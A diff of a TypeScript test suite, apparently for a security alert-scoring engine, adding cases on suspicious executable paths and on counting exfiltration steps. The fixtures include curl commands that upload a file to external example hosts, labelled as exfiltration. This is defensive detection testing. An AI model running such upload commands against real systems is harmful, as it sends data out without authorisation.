@@ -84,6 +84,11 @@ describe('each factor moves the probability its way', () => {
     ['a suspicious address', { indicators: [indicator('Suspicious')] }, 'up'],
     ['a benign address', { indicators: [indicator('Benign')] }, 'down'],
     ['an unusual hour', { hour: hour(0.001, 500) }, 'up'],
+    [
+      'a name of one character below System32',
+      { rules: [rule(detail('process.executable', 'C:\\Windows\\System32\\spool\\k.exe'))] },
+      'up',
+    ],
     ['a name of one character', { rules: [rule(detail('process.executable', 'C:\\ProgramData\\k.exe'))] }, 'up'],
     ['a document program as parent', { rules: [rule(detail('process.parent.name', 'WINWORD.EXE'))] }, 'up'],
     [
@@ -103,6 +108,7 @@ describe('each factor moves the probability its way', () => {
       'other rules on the same event',
       { rules: [rule(), rule({ ruleId: 2, techniques: ['T1204'], tactics: ['impact'], event: 'event 1' })] },
     ],
+    ['a short name in System32', { rules: [rule(detail('process.executable', 'C:\\Windows\\System32\\sc.exe'))] }],
     ['a short name at its place', { rules: [rule(detail('process.executable', 'C:\\Program Files\\7-Zip\\7z.exe'))] }],
     ['usual hours', { hour: hour(0.1, 500) }],
     ['hours of few alerts', { hour: hour(0.001, 10) }],
@@ -147,6 +153,36 @@ describe('each factor moves the probability its way', () => {
     };
     expect(sent('archive.alder.example')).toBeLessThan(sent('archive.other.example') - 0.1);
   });
+
+  test('counts data as a step if one command of several, or an alert without one, may have sent it elsewhere', () => {
+    const own = {
+      name: 'process.command_line' as const,
+      field: 'process.command_line',
+      value: 'curl -T a https://a.alder.example',
+    };
+    const sent = (details: Detail[], alerts: number) =>
+      decide(
+        facts({
+          rules: [
+            rule({ tactics: ['collection'], techniques: ['T1560.001'], at: 1 }),
+            rule({
+              ruleId: 2,
+              event: 'event 2',
+              at: 2,
+              tactics: ['exfiltration'],
+              techniques: ['T1048'],
+              device: 'w.alder.example',
+              details,
+              alerts,
+            }),
+          ],
+        }),
+      ).evidence.map(({ text }) => text);
+    const steps = sent([own, { ...own, value: 'curl -T a https://a.other.example' }], 2);
+    expect(sent([own], 3)).not.toEqual(sent([own], 1));
+    expect(sent([own, own], 2).length).toBeLessThan(steps.length);
+  });
+
   test('counts no habit of an account that came from a new public address', () => {
     const from = (days: number) => p({ rules: [rule(person(9, { isOutside: true, days }))] });
     expect(from(0)).toBeGreaterThan(plain);
